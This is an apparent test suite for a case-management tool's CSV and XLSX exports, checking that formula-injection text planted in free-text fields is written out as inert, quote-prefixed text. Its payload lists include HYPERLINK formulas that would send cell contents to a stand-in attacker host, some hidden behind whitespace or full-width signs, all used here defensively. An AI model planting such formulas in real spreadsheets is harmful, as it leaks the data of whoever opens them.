"""Exports: text planted in any free-text field never becomes a live spreadsheet formula."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import select

from lom_bot.cli import cli
from lom_bot.domain.text import FORMULA_LEADS, is_formula_like, neutralise_cell
from lom_bot.runtime import Runtime
from lom_bot.services.exporter import ExportKind, export
from lom_bot.services.permissions import Actor
from lom_bot.store.tables import (
    Assessment,
    BreachReport,
    Contact,
    CourtOutcome,
    Order,
    Subject,
    User,
)
from tests.test_export import END, START

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?s="&C2&B2,"Click for the full report")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]

# Every free-text field an export carries, by the table it comes from.
PLANTED = {
    Subject: ["given_names", "family_name", "address", "district", "pnc_id"],
    User: ["name"],
    Contact: ["location", "absence_reason", "notes"],
    BreachReport: ["text", "seen_where", "source", "district"],
    Assessment: ["rationale"],
    Order: ["court", "bound_how", "issuing_force", "managing_force", "grounds", "decision_note"],
    CourtOutcome: ["court", "offence", "penalty"],
}
# ...and the columns they land in.
COLUMNS = {
    ExportKind.CASELOAD: [
        "Given names", "Family name", "PNC ID", "District", "LOM officer", "Address",
    ],
    ExportKind.CONTACTS: ["Subject", "District", "Officer", "Location", "Absence reason", "Notes"],
    ExportKind.BREACHES: [
        "Subject", "District", "Source", "Reported by", "Assessed by",
        "Report text", "Seen where", "Rationale",
    ],
    ExportKind.ORDERS: [
        "Subject", "District", "Court", "Bound how", "Issuing force", "Managing force",
        "Grounds", "Decision note",
    ],
    ExportKind.SENTENCING: ["Court", "Offence", "Other penalty"],
}  # fmt: skip


def plant(rt: Runtime) -> None:
    """Every row's free-text fields start with a formula (each value unique: PNC IDs are)."""
    with rt.uow() as uow:
        n = 0
        for table, fields in PLANTED.items():
            for row in uow.session.scalars(select(table)):
                for field in fields:
                    n += 1
                    payload = PAYLOADS[n % len(PAYLOADS)]
                    short = field in ("pnc_id", "source")  # 20-character columns
                    setattr(row, field, f"{payload[:12] if short else payload}#{n}")
        uow.commit()


@pytest.mark.parametrize("kind", list(ExportKind))
def test_planted_formulas_are_written_as_text_in_xlsx(
    demo: Runtime, supervisor: Actor, tmp_path: Path, kind: ExportKind
) -> None:
    plant(demo)
    result = export(demo.uow(), supervisor, kind, START, END, tmp_path / f"{kind}.xlsx")
    sheet = load_workbook(result.path).worksheets[0]
    header = [c.value for c in sheet[1]]
    checked = 0
    for cells in sheet.iter_rows(min_row=2):
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        for name in COLUMNS[kind]:
            cell = cells[header.index(name)]
            if cell.value is None or cell.value == "(not matched)":
                continue
            assert isinstance(cell.value, str) and is_formula_like(cell.value), (name, cell.value)
            assert cell.data_type == "s" and cell.quotePrefix, (name, cell.value)
            checked += 1
    assert checked >= len(COLUMNS[kind])  # every planted column was seen at least once


@pytest.mark.parametrize("kind", list(ExportKind))
def test_planted_formulas_get_a_leading_quote_in_csv(
    demo: Runtime, supervisor: Actor, tmp_path: Path, kind: ExportKind
) -> None:
    plant(demo)
    result = export(demo.uow(), supervisor, kind, START, END, tmp_path / f"{kind}.csv")
    with result.path.open(newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert rows
    for row in rows:
        assert not [v for v in row.values() if is_formula_like(v)], row
        for name in COLUMNS[kind]:
            if row[name] in ("", "(not matched)"):
                continue
            assert row[name][0] == "'" and row[name][1] in "=+-@\t\r", (name, row[name])


@pytest.mark.parametrize("value", [*FORMULA_LEADS, "x=1", "", 3, -2, None])
def test_only_formula_leading_text_is_changed(value: Any) -> None:
    expected = "'" + value if isinstance(value, str) and value[:1] in FORMULA_LEADS else value
    assert neutralise_cell(value) == expected


def test_an_audit_export_writes_a_typed_purpose_as_text(
    demo: Runtime, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("DATABASE_URL", demo.settings.database_url)
    monkeypatch.setenv("LOM_CONFIG", str(demo.settings.lom_config))
    out = tmp_path / "audit.csv"
    planted = '=HYPERLINK("http://evil.example/","PSD")'
    args = ["audit", "export", "--from", "01/01/2026", "--out", str(out), "--purpose", planted]
    assert CliRunner().invoke(cli, args).exit_code == 0
    CliRunner().invoke(cli, args)  # the second export lists the first one, with its purpose
    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert "'" + planted in {r["purpose"] for r in rows}
    assert not [v for r in rows for v in r.values() if is_formula_like(v)]


# Planted text a reader trims or folds into a formula: leading spaces, a line break, a no-break
# or ideographic space, and the full-width signs.
HIDDEN = [
    ' =HYPERLINK("http://evil.example/","x")',
    '\n=HYPERLINK("http://evil.example/","x")',
    '\u00a0=1+1',
    '\u3000+1+1',
    '\uff1dHYPERLINK("http://evil.example/","x")',
    '\uff0bSUM(1,2)',
    '\uff0d2+3',
    '  \uff20SUM(A1:A9)',
]


@pytest.mark.parametrize("value", HIDDEN)
def test_formulas_behind_white_space_or_in_full_width_are_neutralised(value: str) -> None:
    assert is_formula_like(value)
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12", "-3.5", "+7", ".5", " -5", "x=1", "a - b", "  "])
def test_a_plain_number_or_ordinary_text_is_left_as_typed(value: str) -> None:
    assert not is_formula_like(value)
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", ["-2+3", "-1e3", "- 5", "+44 113 496 0000", "-A1"])
def test_a_sign_followed_by_more_than_a_number_is_still_neutralised(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hidden_formulas_planted_in_a_report_are_text_in_both_formats(
    demo: Runtime, supervisor: Actor, tmp_path: Path, fmt: str
) -> None:
    with demo.uow() as uow:
        reports = list(uow.session.scalars(select(BreachReport).order_by(BreachReport.id)))
        assert len(reports) >= len(HIDDEN)
        for n, report in enumerate(reports):
            report.text = f"{HIDDEN[n % len(HIDDEN)]}#{n}"
        uow.commit()
    path = tmp_path / f"breaches.{fmt}"
    result = export(demo.uow(), supervisor, ExportKind.BREACHES, START, END, path)
    if fmt == "csv":
        with result.path.open(newline="", encoding="utf-8-sig") as handle:
            texts = [row["Report text"] for row in csv.DictReader(handle)]
        assert texts and all(t.startswith("'") and is_formula_like(t[1:]) for t in texts), texts
        return
    sheet = load_workbook(result.path).worksheets[0]
    column = [c.value for c in sheet[1]].index("Report text")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert all(is_formula_like(str(c.value)) for c in cells)  # kept as typed
